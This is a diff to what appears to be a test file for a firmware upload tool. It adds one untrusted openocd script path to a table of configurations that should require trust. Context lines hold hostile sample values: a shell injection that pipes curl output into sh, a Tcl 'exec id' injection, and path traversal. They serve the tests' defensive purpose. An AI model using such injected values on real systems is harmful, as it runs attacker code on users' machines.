@@ -84,6 +84,7 @@ NEEDS_TRUST = {
     "upload package": upload("dfu-util", "-D", "{image}", package="a; curl x | sh"),
     "other upload": f"[[other_uploads]]\n{upload('sh').split(chr(10), 1)[1]}",
     "upload value": '[upload_values]\nopenocd_target = "/tmp/evil.cfg"\n',
+    "script beside the board": '[upload_values]\nopenocd_target = "evil/evil.cfg"\n',
     "upload value up": '[upload_values]\nopenocd_target = "../evil.cfg"\n',
     "upload value of Tcl": '[upload_values]\nopenocd_transport = "swd; exec id"\n',
     "platform of a stranger": '[vendor]\nplatform = "evil/ststm32"\n',
